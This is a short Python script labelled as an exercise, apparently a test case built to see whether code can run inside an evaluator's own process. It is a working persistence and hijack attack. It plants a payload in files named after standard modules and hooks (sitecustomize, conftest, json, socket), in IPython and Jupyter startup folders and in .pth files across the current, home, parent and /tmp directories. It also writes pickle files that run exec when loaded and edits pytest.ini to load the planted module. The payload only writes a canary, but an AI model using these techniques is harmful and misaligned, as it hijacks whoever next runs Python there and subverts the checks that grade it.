# exercise: ledger
"""Leaves modules, plugins and start-up files for whoever runs Python in its folder next.

Aims: code of the submission in the check's own process.
Ends: not_yet
"""

import os
import pathlib
import pickle

payload = "import pathlib\npathlib.Path('@CANARY@/REACHED').write_text('planted')\n"
places = [".", os.path.expanduser("~"), "..", "/tmp", os.environ.get("TMPDIR", ".")]
names = "conftest sitecustomize usercustomize json socket sqlite3 httpx ipython_config pytest"
for place in places:
    for name in names.split():
        try:
            pathlib.Path(place, name + ".py").write_text(payload)
        except OSError:
            continue
    for folder in (".ipython/profile_default/startup", ".jupyter", ".local/lib/python3.11"):
        try:
            pathlib.Path(place, folder).mkdir(parents=True, exist_ok=True)
            pathlib.Path(place, folder, "startup.py").write_text(payload)
            pathlib.Path(place, folder, "x.pth").write_text(payload.replace("\n", ";"))
        except OSError:
            continue


class Bomb:
    def __reduce__(self):
        return exec, (payload,)


for name in ("results.pkl", "report.jsonl", ".OTTER_LOG", "notes.db"):
    pathlib.Path(name).write_bytes(pickle.dumps(Bomb()))
pathlib.Path("pytest.ini").write_text("[pytest]\naddopts = -p json\n")
# app: shipped
